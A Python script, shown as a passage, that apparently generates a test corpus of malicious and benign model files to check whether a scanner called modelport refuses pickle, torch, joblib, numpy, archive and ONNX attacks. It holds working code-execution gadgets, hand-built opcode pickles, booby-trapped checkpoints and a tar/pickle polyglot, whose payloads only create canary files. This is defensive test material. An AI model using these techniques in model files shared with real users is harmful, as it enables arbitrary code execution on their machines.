#!/usr/bin/env python3
"""Generate a corpus of malicious and benign model files, to prove modelport refuses the one and accepts the other.

usage:
  python scripts/attack_corpus.py OUT_DIR [--canary-dir DIR] [--families a,b]   write the corpus
  python scripts/attack_corpus.py --evaluate OUT_DIR [--json]                   every sample through the
      modelport CLI (``scan`` and ``convert --to safetensors`` for pickles, ``inspect`` for ONNX, Keras
      and SavedModel files), in this process; one table: per family, malicious refused / executed and
      benign accepted
  python scripts/attack_corpus.py --prove-live OUT_DIR                          load every live malicious
      pickle sample the unsafe way (pickle.load, torch.load(weights_only=False), joblib.load,
      np.load(allow_pickle=True)), in this process, and report which canaries appeared
  python scripts/attack_corpus.py --baseline OUT_DIR                            load the malicious ONNX /
      Keras / SavedModel samples with onnxruntime / keras (safe_mode=True) / tf.saved_model alone

Every malicious pickle sample carries a payload whose only effect, when the file is loaded the unsafe
way, is to create its own canary file (``CANARY_DIR/<sample id>``): a canary that exists after a
scan means the scan executed it; ``--prove-live`` shows that the payloads really run when loaded
naively, so that their absence means something. Samples marked ``live: false`` are unsafe by
policy (TorchScript code, a hidden duplicate archive member, an extension code, the loader families)
but have no per-sample canary. The loader families (ONNX external data, Keras configs, SavedModel
file ops) aim at one secret, ``OUT/_outside/canary-secret.txt``: reading it (watched with inotify,
which sees C++ reads too) or writing ``canary-secret.written`` beside it is what their payloads do.
``--evaluate`` also watches a ``sys.addaudithook`` hook for process spawns, exec, pickle globals.

OUT_DIR/manifest.json lists every sample: ``path`` (relative to OUT_DIR), ``family``, ``kind``
(``malicious``/``benign``), ``loader`` (how a user would load it: pickle, torch, joblib, numpy,
zip:MEMBER, tar:MEMBER, gzip, onnx, keras, savedmodel), ``live``, ``canary``, ``rescue`` (for benign
files: ``ok`` when ``modelport convert --to safetensors`` must rebuild it, ``unsupported`` when it is
no torch checkpoint) and ``note``.

Families are registered with ``@family(name)``; a function takes the Corpus and adds samples.
``PICKLE_FAMILIES`` and ``LOADER_FAMILIES`` name the two groups.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import ctypes
import dataclasses
import gzip
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

ROOT = Path(__file__).resolve().parent.parent

__all__ = ["Sample", "Corpus", "FAMILIES", "PICKLE_FAMILIES", "LOADER_FAMILIES", "family", "write_corpus",
           "load_manifest", "prove_live", "evaluate", "evaluate_cli", "baseline", "AuditWatch"]


@dataclasses.dataclass(frozen=True)
class Sample:
    path: str  # relative to the corpus directory
    family: str
    kind: str  # malicious | benign
    loader: str | None  # how a user would load it (None: no naive loader to prove it with)
    live: bool  # loading it the unsafe way creates `canary`
    canary: str | None
    rescue: str | None = None  # benign: "ok" (convert --to safetensors must rebuild it) | "unsupported"
    note: str = ""


class Corpus:
    def __init__(self, out: Path, canaries: Path) -> None:
        self.out, self.canaries = out, canaries
        self.samples: list[Sample] = []
        self.family = ""

    def canary(self, sid: str) -> str:
        return str(self.canaries / sid)

    def path(self, kind: str, name: str) -> Path:
        p = self.out / self.family / kind / name
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def malicious(self, name: str, data: bytes | Callable[[Path], None], loader: str | None, *, live: bool = True,
                  note: str = "") -> None:
        p = self.path("malicious", name)
        data(p) if callable(data) else p.write_bytes(data)
        sid = _sid(self.family, name)
        self.samples.append(Sample(str(p.relative_to(self.out)), self.family, "malicious", loader, live,
                                   self.canary(sid) if live else None, None, note))

    def benign(self, name: str, data: bytes | Callable[[Path], None], loader: str, rescue: str, note: str = "") -> None:
        p = self.path("benign", name)
        data(p) if callable(data) else p.write_bytes(data)
        self.samples.append(Sample(str(p.relative_to(self.out)), self.family, "benign", loader, False, None,
                                   rescue, note))


def _sid(fam: str, name: str) -> str:
    return f"{fam}__{name}".replace("/", "_")


FAMILIES: dict[str, Callable[[Corpus], None]] = {}


def family(name: str) -> Callable[[Callable[[Corpus], None]], Callable[[Corpus], None]]:
    def deco(fn: Callable[[Corpus], None]) -> Callable[[Corpus], None]:
        FAMILIES[name] = fn
        return fn

    return deco


# --------------------------------------------------------------------------- payloads
# Each gadget is an object whose pickle, when loaded, creates `canary` (and does nothing else).


class Reduce:
    """Pickles as ``func(*args)``: ``func`` and ``args`` may themselves be Reduce objects (nested calls)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)

    def __call__(self, *a: Any) -> Any:  # pickle wants a callable where a Reduce is the function of another
        raise RuntimeError("a payload, never called while generating")


def _touch_src(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


GADGETS = ("os_system", "subprocess_popen", "subprocess_run", "subprocess_check_output", "os_spawnlp", "builtins_eval",
           "builtins_exec", "exec_compile", "getattr_import", "getattr_import_module", "pkgutil_resolve_name",
           "operator_methodcaller", "operator_attrgetter", "runpy_run_path")


def gadgets(canary: str, payload_dir: Path) -> dict[str, Any]:
    """Payload name -> picklable object; loading its pickle creates ``canary``."""
    import builtins
    import importlib
    import operator
    import pkgutil
    import runpy
    import subprocess

    script = payload_dir / (Path(canary).name + ".py")
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text(_touch_src(canary) + "\n")
    cmd = f"touch '{canary}'"
    os_module = Reduce(importlib.import_module, "os")
    return {
        "os_system": Reduce(os.system, cmd),  # pickles as posix.system
        "subprocess_popen": Reduce(subprocess.Popen, ["touch", canary]),
        "subprocess_run": Reduce(subprocess.run, ["touch", canary]),
        "subprocess_check_output": Reduce(subprocess.check_output, ["touch", canary]),
        "os_spawnlp": Reduce(os.spawnlp, os.P_WAIT, "touch", "touch", canary),
        "builtins_eval": Reduce(builtins.eval, _touch_src(canary)),
        "builtins_exec": Reduce(builtins.exec, _touch_src(canary)),
        "exec_compile": Reduce(builtins.exec, Reduce(builtins.compile, _touch_src(canary), "<corpus>", "exec")),
        "getattr_import": Reduce(Reduce(builtins.getattr, Reduce(builtins.__import__, "os"), "system"), cmd),
        "getattr_import_module": Reduce(Reduce(builtins.getattr, os_module, "system"), cmd),
        "pkgutil_resolve_name": Reduce(Reduce(pkgutil.resolve_name, "os:system"), cmd),
        "operator_methodcaller": Reduce(operator.methodcaller("system", cmd), os_module),
        "operator_attrgetter": Reduce(Reduce(operator.attrgetter("system"), os_module), cmd),
        "runpy_run_path": Reduce(runpy.run_path, str(script)),
    }


# --------------------------------------------------------------------------- hand-assembled pickles


def _s(text: str) -> bytes:  # SHORT_BINUNICODE, or BINUNICODE when long
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def _hand_pickles(canary: str) -> dict[str, tuple[bytes, bool, str]]:
    """name -> (bytes, live, note): opcodes a pickler does not write on its own."""
    import marshal

    cmd = f"touch '{canary}'".encode()
    code = marshal.dumps(compile(_touch_src(canary), "<corpus>", "exec"))
    quoted = b"S'" + cmd.replace(b"'", b"\\'") + b"'\n"
    return {
        # protocol 0: GLOBAL by its Python-2 name (mapped to builtins/os by pickle), INST, OBJ
        "p0_global_os_system.pkl": (b"cos\nsystem\n(" + quoted + b"tR.", True, "GLOBAL os.system, protocol 0"),
        "p0_inst.pkl": (b"(" + quoted + b"ios\nsystem\n.", True, "INST os system"),
        "p0_obj.pkl": (b"(cos\nsystem\n" + quoted + b"o.", True, "OBJ with os.system"),
        "p2_py2_builtin_eval.pkl": (b"\x80\x02c__builtin__\neval\nX" + struct.pack("<I", len(_touch_src(canary)))
                                    + _touch_src(canary).encode() + b"\x85R.", True,
                                    "GLOBAL __builtin__.eval (a Python 2 name pickle maps to builtins)"),
        # STACK_GLOBAL whose strings come from the memo, stored earlier as harmless dict keys
        "p4_stack_global_from_memo.pkl": (
            b"\x80\x04}\x94(" + _s("os") + b"\x94K\x01" + _s("system") + b"\x94K\x02u0"
            + b"h\x01h\x02\x93" + _s(cmd.decode()) + b"\x85R.", True,
            "STACK_GLOBAL of memoized strings (BINGET), first pushed as dict keys"),
        # a dotted name under an allowed-looking module: torch.serialization imports os
        "p4_dotted_name_under_torch.pkl": (
            b"\x80\x04" + _s("torch.serialization") + _s("os.system") + b"\x93" + _s(cmd.decode()) + b"\x85R.",
            True, "STACK_GLOBAL torch.serialization / os.system (a prefix allow-list would pass it)"),
        # functools.partial built by NEWOBJ, then called with REDUCE: the call target is computed
        "p2_newobj_partial.pkl": (
            b"\x80\x02cfunctools\npartial\ncos\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"\x86\x81)R.",
            True, "NEWOBJ functools.partial(os.system, cmd), then REDUCE on it"),
        "p4_newobj_ex_partial.pkl": (
            b"\x80\x04" + _s("functools") + _s("partial") + b"\x93" + _s("os") + _s("system") + b"\x93"
            + _s(cmd.decode()) + b"\x86}\x92)R.", True, "NEWOBJ_EX functools.partial, then REDUCE on it"),
        # types.FunctionType(marshal.loads(code), {})(): a code object run as a function
        "p3_marshal_function.pkl": (
            b"\x80\x03ctypes\nFunctionType\ncmarshal\nloads\nB" + struct.pack("<I", len(code)) + code
            + b"\x85R}\x86R)R.", True, "types.FunctionType(marshal.loads(code), {})()"),
        # an extension code: resolves to whatever the loading process registered with copyreg
        "p2_ext1.pkl": (b"\x80\x02\x82\x01)R.", False, "EXT1 1 (a copyreg extension code)"),
        # truncated after the call: pickle.load runs os.system, then fails
        "p2_truncated_after_reduce.pkl": (
            b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"\x85R", True,
            "cut after REDUCE: the call happens before the load fails"),
    }


# --------------------------------------------------------------------------- malicious pickle families


@family("pickle-gadgets")
def _gadgets_every_protocol(c: Corpus) -> None:
    """Each gadget at every pickle protocol, as a bare .pkl."""
    for proto in range(6):
        for name in GADGETS:
            sid_name = f"{name}_p{proto}.pkl"
            obj = gadgets(c.canary(_sid(c.family, sid_name)), c.out / "_payloads")[name]
            c.malicious(sid_name, pickle.dumps(obj, protocol=proto), "pickle", note=f"{name}, protocol {proto}")


@family("pickle-opcodes")
def _opcodes(c: Corpus) -> None:
    for name in list(_hand_pickles("x")):
        data, live, note = _hand_pickles(c.canary(_sid(c.family, name)))[name]
        c.malicious(name, data, "pickle", live=live, note=note)


def _torch_save(obj: Any, path: Path | io.BytesIO, *, legacy: bool = False, protocol: int = 2) -> None:
    import torch

    torch.save(obj, str(path) if isinstance(path, Path) else path, pickle_protocol=protocol,
               _use_new_zipfile_serialization=not legacy)


def _small_state_dict() -> dict[str, Any]:
    import torch

    g = torch.Generator().manual_seed(0)
    return {"linear.weight": torch.randn(3, 4, generator=g), "linear.bias": torch.randn(3, generator=g)}


@family("torch-checkpoints")
def _torch_malicious(c: Corpus) -> None:
    """Real torch.save files (zip and legacy) with a payload nested among real tensors."""
    import torch

    def evil(name: str, key: str = "os_system") -> Any:
        return gadgets(c.canary(_sid(c.family, name)), c.out / "_payloads")[key]

    for legacy in (False, True):
        fmt = "legacy" if legacy else "zip"
        for proto in (2, 4):
            n = f"nested_state_dict_{fmt}_p{proto}.pt"
            obj = {"state_dict": _small_state_dict(), "extra": [{"callbacks": (1, evil(n))}]}
            c.malicious(n, lambda p, o=obj, pr=proto, lg=legacy: _torch_save(o, p, legacy=lg, protocol=pr), "torch",
                        note=f"__reduce__ three containers deep beside a real state_dict ({fmt}, protocol {proto})")
        n = f"lightning_hparams_{fmt}.ckpt"
        obj = {"epoch": 3, "global_step": 30, "pytorch-lightning_version": "2.4.0", "state_dict": _small_state_dict(),
               "optimizer_states": [], "hyper_parameters": {"lr": 1e-3, "loss": evil(n, "builtins_exec")}}
        c.malicious(n, lambda p, o=obj, lg=legacy: _torch_save(o, p, legacy=lg), "torch",
                    note=f"a Lightning checkpoint whose hyper_parameters run code ({fmt})")
        n = f"ordered_dict_value_{fmt}.pt"
        sd = torch.nn.Linear(4, 3).state_dict()
        sd["linear.extra"] = evil(n, "subprocess_run")
        c.malicious(n, lambda p, o=sd, lg=legacy: _torch_save(o, p, legacy=lg), "torch",
                    note=f"a payload as one value of a model.state_dict() OrderedDict ({fmt})")
    n = "load_from_bytes.pt"
    inner = io.BytesIO()
    torch.save({"x": evil(n)}, inner)
    obj = {"weight": torch.ones(2), "blob": Reduce(torch.storage._load_from_bytes, inner.getvalue())}
    c.malicious(n, lambda p: _torch_save(obj, p), "torch",
                note="torch.storage._load_from_bytes: torch's own function runs torch.load(weights_only=False)")

    # a pickled nn.Module whose class lives in a module file: unpickling imports it, running its top level
    mod = "corpus_user_net"
    n = "pickled_module.pt"
    payload_dir = c.out / "_payloads"
    payload_dir.mkdir(parents=True, exist_ok=True)
    (payload_dir / f"{mod}.py").write_text(textwrap.dedent(f"""\
        import os
        import torch

        if not os.environ.get("MODELPORT_CORPUS_GENERATING"):  # importing this module is the payload
            {_touch_src(c.canary(_sid(c.family, n)))}


        class Net(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.linear = torch.nn.Linear(4, 3)
        """))
    sys.path.insert(0, str(payload_dir))
    os.environ["MODELPORT_CORPUS_GENERATING"] = "1"
    try:
        import importlib

        net = importlib.import_module(mod).Net()
        c.malicious(n, lambda p: torch.save(net, str(p)), f"torch-import:{payload_dir.relative_to(c.out)}",
                    note="a whole pickled nn.Module: loading imports its module file, whose top level runs")
    finally:
        os.environ.pop("MODELPORT_CORPUS_GENERATING", None)
        sys.path.remove(str(payload_dir))
        sys.modules.pop(mod, None)

    # TorchScript posing as a checkpoint: torch.load dispatches it to torch.jit.load, which runs its code
    class Scripted(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.linear = torch.nn.Linear(4, 3)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.linear(x)

    scripted = torch.jit.script(Scripted())
    c.malicious("torchscript_as_checkpoint.pt", lambda p: torch.jit.save(scripted, str(p)), None, live=False,
                note="a TorchScript archive named like a checkpoint (code/ is compiled and run by torch.jit.load)")

    # a zip with two data.pkl records: the first is the payload, the second a real state_dict
    def duplicate(p: Path) -> None:
        good = io.BytesIO()
        torch.save(_small_state_dict(), good)
        with zipfile.ZipFile(good) as zin, zipfile.ZipFile(p, "w") as zout:
            for info in zin.infolist():
                if info.filename.endswith("data.pkl"):
                    zout.writestr(info.filename, pickle.dumps(evil("duplicate_data_pkl.pt"), protocol=2))
                zout.writestr(info, zin.read(info.filename))

    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile: Duplicate name
        c.malicious("duplicate_data_pkl.pt", duplicate, None, live=False,
                    note="two archive/data.pkl records, the payload first (zip readers that take the first run it)")


@family("containers")
def _containers(c: Corpus) -> None:
    """Payloads inside joblib files, numpy object arrays, archives and compressed streams."""
    import numpy as np

    def evil(name: str, key: str = "os_system") -> Any:
        return gadgets(c.canary(_sid(c.family, name)), c.out / "_payloads")[key]

    try:
        import joblib
    except ImportError:  # pragma: no cover
        joblib = None
    if joblib is not None:
        for compress in (0, "zlib", "gzip", "bz2", "xz"):
            n = f"joblib_{compress or 'raw'}.joblib"
            obj = {"coef": np.arange(6.0).reshape(2, 3), "model": evil(n)}
            c.malicious(n, lambda p, o=obj, z=compress: joblib.dump(o, str(p), compress=(z, 3) if z else 0),
                        "joblib", note=f"joblib.dump of a numpy array and a payload (compress={compress or 0})")
        n = "joblib_object_array.joblib"
        arr = np.empty(2, dtype=object)
        arr[0], arr[1] = "fine", evil(n, "builtins_eval")
        c.malicious(n, lambda p: joblib.dump({"a": np.ones(3), "objects": arr}, str(p)), "joblib",
                    note="the payload inside an object array (joblib's nested pickle)")
    for key in ("os_system", "subprocess_popen"):
        n = f"object_array_{key}.npy"
        arr = np.empty(3, dtype=object)
        arr[:] = [1, "two", evil(n, key)]
        c.malicious(n, lambda p, a=arr: np.save(str(p), a, allow_pickle=True), "numpy",
                    note="np.save of an object array holding a payload")
    n = "object_array.npz"
    arr = np.empty(1, dtype=object)
    arr[0] = evil(n, "builtins_exec")
    c.malicious(n, lambda p: np.savez(str(p), weights=np.ones(4, dtype=np.float32), extra=arr), "numpy",
                note="np.savez: a numeric array and an object array holding a payload")

    def member(name: str, key: str = "os_system") -> bytes:
        return pickle.dumps(evil(name, key), protocol=4)

    n = "pickle_in_zip.zip"
    c.malicious(n, lambda p: _zip(p, {"model/weights.pkl": member(n)}), "zip:model/weights.pkl",
                note="a pickle inside a zip")
    n = "pickle_in_tar.tar"
    c.malicious(n, lambda p: _tar(p, {"model/weights.pkl": member(n)}, ""), "tar:model/weights.pkl",
                note="a pickle inside a tar")
    n = "pickle_in_tar_gz.tar.gz"
    c.malicious(n, lambda p: _tar(p, {"model/weights.pkl": member(n, "builtins_eval")}, "gz"),
                "tar:model/weights.pkl", note="a pickle inside a gzip'd tar")
    n = "pickle.pkl.gz"
    c.malicious(n, lambda p: p.write_bytes(gzip.compress(member(n))), "gzip", note="a gzip'd pickle")
    n = "zip_in_zip_in_tar.tar"
    inner = io.BytesIO()
    _zip(inner, {"deep/model.pkl": member(n, "subprocess_run")})
    outer = io.BytesIO()
    _zip(outer, {"inner.zip": inner.getvalue()})
    c.malicious(n, lambda p: _tar(p, {"bundle/outer.zip": outer.getvalue()}, ""),
                "tar:bundle/outer.zip:inner.zip:deep/model.pkl", note="a pickle in a zip in a zip in a tar")
    n = "checkpoint_in_zip.zip"
    pt = io.BytesIO()
    _torch_save({"w": _small_state_dict(), "x": evil(n)}, pt)  # type: ignore[arg-type]
    c.malicious(n, lambda p: _zip(p, {"release/model.pt": pt.getvalue()}), "zip:release/model.pt",
                note="a malicious torch checkpoint inside a zip")

    def polyglot(p: Path) -> None:
        buf = io.BytesIO()
        _zip(buf, {"payload.pkl": member("polyglot.pkl", "builtins_exec")})
        p.write_bytes(pickle.dumps({"harmless": [1, 2, 3]}, protocol=2) + buf.getvalue())

    c.malicious("polyglot.pkl", polyglot, "zip:payload.pkl",
                note="a harmless pickle with a zip appended: zip readers see the payload")

    def tar_polyglot(p: Path) -> None:
        p.write_bytes(_tar_pickle_polyglot(f"touch '{c.canary(_sid(c.family, 'polyglot_tar.tar'))}'".encode()))

    c.malicious("polyglot_tar.tar", tar_polyglot, "pickle",
                note="a tar whose first member name is a pickle (pickle.load of the .tar runs it)")


def _tar_pickle_polyglot(cmd: bytes) -> bytes:
    """A valid tar whose first 512-byte header is also a pickle that runs ``os.system(cmd)``.

    The header starts with BINUNICODE (in the name field) whose 340-byte string swallows every
    field up to the ustar ``prefix`` (offset 345), where POP and the payload follow.
    """
    body = b"weights"
    payload = b"0cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
    assert len(payload) <= 155, "the payload must fit the 155-byte prefix field"
    header = bytearray(512)
    header[0:5] = b"X" + struct.pack("<I", 345 - 5)
    header[5:9] = b"evil"
    fields = {100: b"0000644\0", 108: b"0000000\0", 116: b"0000000\0", 124: b"%011o\0" % len(body),
              136: b"00000000000\0", 156: b"0", 257: b"ustar\0", 263: b"00"}
    for offset, value in fields.items():
        header[offset:offset + len(value)] = value
    header[345:345 + len(payload)] = payload
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + body + b"\0" * (512 - len(body)) + b"\0" * 1024


def _zip(dest: Any, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(dest, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


def _tar(dest: Path, members: dict[str, bytes], compression: str) -> None:
    with tarfile.open(str(dest), "w:" + compression) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


# --------------------------------------------------------------------------- benign pickle families


def _zoo() -> Any:
    sys.path.insert(0, str(ROOT / "tests"))
    import zoo

    return zoo


def _cnn_state_dict() -> dict[str, Any]:
    import torch

    zoo = _zoo()
    cnn = zoo.cached("attack_corpus_cnn", zoo.write_cnn)
    return torch.load(cnn.pt, weights_only=True)


def _transformer_state_dicts() -> dict[str, dict[str, Any]]:
    """BERT and GPT-2 (tied lm_head) built from tiny configs: their real state_dicts."""
    import torch
    from transformers import BertConfig, BertModel, GPT2Config, GPT2LMHeadModel

    torch.manual_seed(0)
    bert = BertModel(BertConfig(hidden_size=32, num_hidden_layers=1, num_attention_heads=2, intermediate_size=64,
                                vocab_size=100, max_position_embeddings=32))
    gpt2 = GPT2LMHeadModel(GPT2Config(n_embd=32, n_layer=1, n_head=2, vocab_size=100, n_positions=32,
                                      bos_token_id=0, eos_token_id=0))
    return {"bert": bert.state_dict(), "gpt2": gpt2.state_dict()}


def _dtypes_state_dict() -> dict[str, Any]:
    import torch

    base = torch.arange(24, dtype=torch.float32).reshape(4, 6)
    return {
        "f32": base.clone(), "f16": base.half(), "bf16": base.bfloat16(), "f64": base.double(),
        "i8": torch.arange(-4, 4, dtype=torch.int8), "u8": torch.arange(8, dtype=torch.uint8),
        "i64": torch.arange(5), "bool": torch.tensor([True, False, True]), "c64": torch.randn(3, dtype=torch.complex64),
        "transposed": base.t(), "row_view": base[1], "column_view": base[:, 2], "empty": torch.empty(0, 3),
        "scalar": torch.tensor(3.5), "param": torch.nn.Parameter(torch.ones(2, 2)),
        "nan_inf": torch.tensor([float("nan"), float("inf"), -0.0]),
    }


@family("torch-state-dicts")
def _torch_benign(c: Corpus) -> None:
    import torch

    cnn = _cnn_state_dict()
    for legacy in (False, True):
        fmt = "legacy" if legacy else "zip"
        for proto in (1, 2, 3, 4, 5):
            c.benign(f"cnn_{fmt}_p{proto}.pt", lambda p, lg=legacy, pr=proto: _torch_save(cnn, p, legacy=lg, protocol=pr),
                     "torch", "ok", f"tests/zoo.py's CNN state_dict ({fmt}, protocol {proto})")
    for name, sd in _transformer_state_dicts().items():
        for legacy in (False, True):
            fmt = "legacy" if legacy else "zip"
            c.benign(f"{name}_{fmt}.bin", lambda p, s=sd, lg=legacy: _torch_save(s, p, legacy=lg), "torch", "ok",
                     f"transformers {name} from a tiny config ({fmt})")
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(5, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10)
    lightning = {"epoch": 2, "global_step": 20, "pytorch-lightning_version": "2.4.0",
                 "state_dict": {f"model.{k}": v for k, v in model.state_dict().items()},
                 "loops": {"fit_loop": {"epoch_progress": {"total": {"ready": 2}}}},
                 "callbacks": {"ModelCheckpoint{'monitor': 'val_loss'}": {"best_model_score": torch.tensor(0.5),
                                                                         "best_model_path": "/ckpt/best.ckpt"}},
                 "optimizer_states": [opt.state_dict()], "lr_schedulers": [sched.state_dict()],
                 "hparams_name": "kwargs", "hyper_parameters": {"lr": 1e-3, "hidden": 8}}
    for legacy in (False, True):
        fmt = "legacy" if legacy else "zip"
        c.benign(f"lightning_{fmt}.ckpt", lambda p, lg=legacy: _torch_save(lightning, p, legacy=lg), "torch", "ok",
                 f"a Lightning-style checkpoint with optimizer and scheduler states ({fmt})")
    c.benign("model_key.pt", lambda p: _torch_save({"model": cnn, "epoch": 5, "best_acc": 0.9}, p), "torch", "ok",
             "{'model': state_dict, ...}")
    c.benign("data_parallel.pth", lambda p: _torch_save({"state_dict": {f"module.{k}": v for k, v in cnn.items()},
                                                         "arch": "cnn"}, p), "torch", "ok",
             "a DataParallel state_dict: every key starts with 'module.'")
    dt = _dtypes_state_dict()
    for legacy in (False, True):
        fmt = "legacy" if legacy else "zip"
        c.benign(f"dtypes_views_{fmt}.pt", lambda p, lg=legacy: _torch_save(dt, p, legacy=lg), "torch", "ok",
                 f"every dtype safetensors stores, views sharing storage, empty/scalar tensors, NaN/inf ({fmt})")
    extras = {"state_dict": _small_state_dict(), "size": torch.Size([2, 3]), "device": torch.device("cpu"),
              "tags": {"a", "b"}, "frozen": frozenset({1, 2}), "z": complex(1, 2), "raw": b"\x00\x01",
              "buffer": bytearray(b"xy"), "counts": __import__("collections").Counter(a=2)}
    c.benign("allowed_builtins.pt", lambda p: _torch_save(extras, p), "torch", "ok",
             "torch.Size, device, set, frozenset, complex, bytes, bytearray, Counter beside a state_dict")


@family("plain-data")
def _plain_benign(c: Corpus) -> None:
    import collections

    import numpy as np

    data = {"name": "model", "sizes": [1, 2, 3], "pair": (1.5, None), "flags": {True, False},
            "frozen": frozenset({"a"}), "blob": b"\x00\xff", "nested": collections.OrderedDict(a=[{"b": 1}]),
            "complex": 2j, "buffer": bytearray(b"ab")}
    for proto in range(6):
        c.benign(f"plain_p{proto}.pkl", pickle.dumps(data, protocol=proto), "pickle", "unsupported",
                 f"plain Python data, protocol {proto}")
    c.benign("floats.npy", lambda p: np.save(str(p), np.arange(12, dtype=np.float32).reshape(3, 4)), "numpy",
             "unsupported", "a numeric .npy")
    c.benign("arrays.npz", lambda p: np.savez(str(p), a=np.ones(3), b=np.arange(4)), "numpy", "unsupported",
             "a numeric .npz")
    strings = np.array(["a", 1, None, 2.5], dtype=object)
    c.benign("object_strings.npy", lambda p: np.save(str(p), strings, allow_pickle=True), "numpy", "unsupported",
             "an object array of str/int/None/float")
    c.benign("object_strings.npz", lambda p: np.savez(str(p), labels=strings, w=np.ones(2)), "numpy", "unsupported",
             "an .npz with an object array of plain values")
    try:
        import joblib
    except ImportError:  # pragma: no cover
        return
    arrays = {"coef": np.arange(6.0).reshape(2, 3), "intercept": np.zeros(2), "names": ["x", "y"],
              "objects": np.array(["a", None], dtype=object)}
    for compress in (0, "zlib", "gzip", "bz2", "xz"):
        c.benign(f"arrays_{compress or 'raw'}.joblib",
                 lambda p, z=compress: joblib.dump(arrays, str(p), compress=(z, 3) if z else 0), "joblib",
                 "unsupported", f"joblib.dump of numpy arrays (compress={compress or 0})")
    sd = io.BytesIO()
    _torch_save(_small_state_dict(), sd)  # type: ignore[arg-type]
    c.benign("checkpoints.tar", lambda p: _tar(p, {"run/model.pt": sd.getvalue(), "run/meta.pkl": pickle.dumps(data)}, ""),
             "tar:run/model.pt", "unsupported", "a tar of a checkpoint and a pickle")
    c.benign("checkpoint.zip", lambda p: _zip(p, {"release/model.pt": sd.getvalue(), "README.txt": b"weights"}),
             "zip:release/model.pt", "unsupported", "a zip holding a checkpoint")


# --------------------------------------------------------------------------- loader families
# ONNX external data, Keras configs and SavedModel file ops: real model files built with onnx, keras and
# tensorflow, then tampered with where the attack needs it. ``secret`` is a file outside every model
# directory (OUT/_outside/canary-secret.txt) that the attacks try to read (ONNX locations, symlinks and
# hard links point at it, SavedModel ReadFile ops name it) or next to which they try to write
# (``secret.with_suffix(".written")``: what Keras lambdas and SavedModel WriteFile/PyFunc ops create when
# they run). A user meets these files through ``modelport inspect`` (and convert), so that is where
# ``--evaluate`` sends them.


class _Built(NamedTuple):
    path: str
    family: str
    name: str
    malicious: bool


# --------------------------------------------------------------------------- ONNX external data


def _onnx_base(directory: Path, location: str = "w.bin", *, n: int = 8):
    """y = x + w with w (n floats) in external data at ``location``; returns (model proto, path)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    directory.mkdir(parents=True, exist_ok=True)
    w = numpy_helper.from_array(np.arange(n, dtype=np.float32), "w")
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "add",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", n])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", n])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 9
    path = directory / "model.onnx"
    target = directory / location
    target.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(path), save_as_external_data=True, all_tensors_to_one_file=True, location=location,
              size_threshold=0)
    return onnx.load(str(path), load_external_data=False), path


def _point(model, location: str, length: int | None = None) -> None:
    """Every external tensor of ``model`` now reads ``location`` (offset 0)."""
    import onnx

    for t in model.graph.initializer:
        if t.data_location == onnx.TensorProto.EXTERNAL:
            del t.external_data[:]
            t.external_data.add(key="location", value=location)
            if length is not None:
                t.external_data.add(key="length", value=str(length))


def _save(model, path: Path) -> str:
    import onnx

    onnx.save(model, str(path))
    return str(path)


def _external_constant(directory: Path, location: str, *, where: str) -> str:
    """A model whose only external tensor sits in a Constant node (main graph, If branch or function)."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    directory.mkdir(parents=True, exist_ok=True)
    t = numpy_helper.from_array(np.zeros(4, np.float32), "c")
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    t.external_data.add(key="location", value=location)
    t.external_data.add(key="length", value="16")
    const = helper.make_node("Constant", [], ["c"], value=t)
    add = helper.make_node("Add", ["x", "c"], ["y"])
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    functions = []
    if where == "graph":
        nodes, inputs = [const, add], [x]
    elif where == "if":
        then = helper.make_graph([const, helper.make_node("Identity", ["c"], ["then_out"])], "then", [],
                                 [helper.make_tensor_value_info("then_out", TensorProto.FLOAT, [4])])
        other = helper.make_graph([helper.make_node("Identity", ["x"], ["else_out"])], "else", [],
                                  [helper.make_tensor_value_info("else_out", TensorProto.FLOAT, [4])])
        cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
        nodes = [helper.make_node("If", ["cond"], ["c"], then_branch=then, else_branch=other), add]
        inputs = [x, cond]
    else:  # a model-local function holding the Constant
        fn = helper.make_function("evil", "AddC", ["x"], ["y"], [const, add], [helper.make_opsetid("", 18)])
        functions = [fn]
